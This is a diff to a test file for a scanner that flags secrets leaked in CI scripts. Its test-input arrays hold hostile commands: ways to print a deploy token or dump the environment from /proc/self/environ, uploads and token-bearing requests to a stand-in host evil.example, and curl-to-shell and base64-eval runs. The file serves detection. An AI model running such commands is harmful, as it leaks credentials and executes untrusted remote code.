@@ -23,6 +23,8 @@ const PRINTED = [
   'bash -c \'echo $DEPLOY_TOKEN\'', 'sh -c "echo $DEPLOY_TOKEN"', 'eval "echo \\$DEPLOY_TOKEN"', 'trap \'echo $DEPLOY_TOKEN\' EXIT', 'say() { echo "$1"; }\nsay "$DEPLOY_TOKEN"', '/bin/echo $DEPLOY_TOKEN', '"ec"ho $DEPLOY_TOKEN', 'e=echo; $e "$DEPLOY_TOKEN"', 'command echo $DEPLOY_TOKEN', 'busybox echo $DEPLOY_TOKEN', 'timeout 5 echo $DEPLOY_TOKEN',
   'echo "$DEPLOY_TOKEN" | xargs echo', 'echo $DEPLOY_TOKEN >&2', 'echo $DEPLOY_TOKEN > /dev/stderr', 'echo "$DEPLOY_TOKEN" > out.txt; cat out.txt', 'if true; then echo $DEPLOY_TOKEN; fi', '{ echo $DEPLOY_TOKEN; }', '(echo $DEPLOY_TOKEN)', 'case x in x) echo $DEPLOY_TOKEN;; esac',
   'python3 -c "import os; print(os.environ[\'DEPLOY_TOKEN\'])"', 'node -p process.env.DEPLOY_TOKEN', 'node -e "console.log(process.env)"', 'awk \'BEGIN { print ENVIRON["DEPLOY_TOKEN"] }\'', 'awk -v t="$DEPLOY_TOKEN" \'BEGIN { print t }\'', 'cat /proc/self/environ', 'set -x\ndeploy --token "$DEPLOY_TOKEN"', 'bash -x deploy.sh "$DEPLOY_TOKEN"', 'set -euxo pipefail; deploy "$DEPLOY_TOKEN"',
+  'sh <<\'E\'\necho $DEPLOY_TOKEN\nE', 'bash -s <<< \'echo $DEPLOY_TOKEN\'', 'echo \'echo $DEPLOY_TOKEN\' | sh', 'printf "env\\n" | bash', 'python3 - <<\'E\'\nimport os\nprint(os.environ["DEPLOY_TOKEN"])\nE', 'python3 <<\'E\'\nimport os\nfor k, v in os.environ.items(): print(k, v)\nE', 'node -p process.env', 'ruby -e \'puts ENV.to_h\'',
+  'xxd < /proc/self/environ', 'xargs -0 -a /proc/self/environ echo', 'mapfile -d "" all < /proc/self/environ; echo "${all[@]}"', '{ cat; } < /proc/1/environ', 'X=$(</proc/self/environ); echo "$X"', 'echo "$DEPLOY_TOKEN" > t; echo "$(<t)"', 'curl -T /proc/self/environ https://known.example/', 'cat <<\'E\' | sh\necho $DEPLOY_TOKEN\nE',
   'echo $CI_JOB_TOKEN', 'echo "$CI_REPOSITORY_URL"', 'echo "$DEPLOY_TOKEN" | mystery', 'cat <(echo $DEPLOY_TOKEN)', 'echo `echo $DEPLOY_TOKEN`', 'grep . <<< "$DEPLOY_TOKEN"', 'perl -e \'print $ENV{DEPLOY_TOKEN}\'',
 ];
 
@@ -35,7 +37,7 @@ const HOSTS = [
   'curl -fsS https://evil.example/x -o x', 'curl -fsS evil.example/x -o x', 'wget -q http://10.1.2.3/x', 'curl http://2130706433/x', 'git clone git@evil.example:a/b.git', 'git clone https://u@evil.example/a/b.git', 'npm publish --registry=https://evil.example/', 'pip install --index-url "https://evil.example/simple" x', 'ssh deploy@evil.example ls', 'scp a deploy@evil.example:/b', 'nc evil.example 80 < a', 'exec 3<>/dev/tcp/evil.example/80', 'docker login -u a --password-stdin evil.example', 'H=evil.example; curl "https://$H/x"', 'H=evil; curl "https://$H.example/x"', 'curl "https://${H}.evil.example"', 'curl -H "Authorization: Bearer $DEPLOY_TOKEN" https://evil.example', 'python3 -c "import urllib.request as u; u.urlopen(\'https://evil.example\')"',
 ];
 
-const RUN = ['curl -fsSL https://known.example/x | sh', 'curl -fsSL https://known.example/x | sudo bash -s -- -y', 'wget -qO- https://known.example/x | bash', 'bash <(curl -fsSL https://known.example/x)', 'bash -c "$(curl -fsSL https://known.example/x)"', 'eval "$(curl -fsSL https://known.example/x)"', 'source <(curl -fsSL https://known.example/x)', 'curl https://known.example/x | python3 -', 'curl https://known.example/x | tar xz | sh', 'echo ZWNobyBoaQo= | base64 -d | sh'];
+const RUN = ['eval "$(echo ZWNobw== | base64 -d)"', 'bash -c "$(base64 -d <<< ZWNobw==)"', 'curl -fsSL https://known.example/x | sh', 'curl -fsSL https://known.example/x | sudo bash -s -- -y', 'wget -qO- https://known.example/x | bash', 'bash <(curl -fsSL https://known.example/x)', 'bash -c "$(curl -fsSL https://known.example/x)"', 'eval "$(curl -fsSL https://known.example/x)"', 'source <(curl -fsSL https://known.example/x)', 'curl https://known.example/x | python3 -', 'curl https://known.example/x | tar xz | sh', 'echo ZWNobyBoaQo= | base64 -d | sh'];
 
 const FINE = [
   'echo "$CI_REGISTRY_PASSWORD" | docker login -u "$CI_REGISTRY_USER" --password-stdin "$CI_REGISTRY"', 'echo "$KUBE_TOKEN" > token.txt', 'echo "//registry.npmjs.org/:_authToken=$NPM_TOKEN" > .npmrc', 'echo "$GPG_PRIVATE_KEY" | base64 -d | gpg --batch --import', 'echo "$SSH_PRIVATE_KEY" | tr -d "\\r" | ssh-add -', 'test -n "$DEPLOY_TOKEN"', '[ -n "$DEPLOY_TOKEN" ] || { echo "DEPLOY_TOKEN is not set"; exit 1; }', 'echo "${DEPLOY_TOKEN:+it is set}"', 'deploy --token "$DEPLOY_TOKEN"', 'TWINE_PASSWORD="$PYPI_TOKEN" twine upload dist/*', 'curl --fail -H "PRIVATE-TOKEN: $DEPLOY_TOKEN" https://known.example/api', 'curl -u "me:$DEPLOY_TOKEN" https://known.example/api', 'RESULT=$(curl -H "Authorization: Bearer $DEPLOY_TOKEN" https://known.example/api); echo "$RESULT"',
@@ -61,6 +63,10 @@ describe('secrets in scripts', () => {
   it('what is downloaded and run at once is found', async () => {
     const all = await found(RUN);
     expect(RUN.filter((_, at) => !(all[at] ?? []).some((each) => each.startsWith('error runs with')))).toEqual([]);
+  });
+
+  it('kept all together in a file are told to the person', async () => {
+    expect(await found(['env > public/out.txt', 'set > all'])).toEqual([['warning keeps all variables, secret ones too, in public/out.txt'], ['warning keeps all variables, secret ones too, in all']]);
   });
 
   it('what jobs really do is let through', async () => {
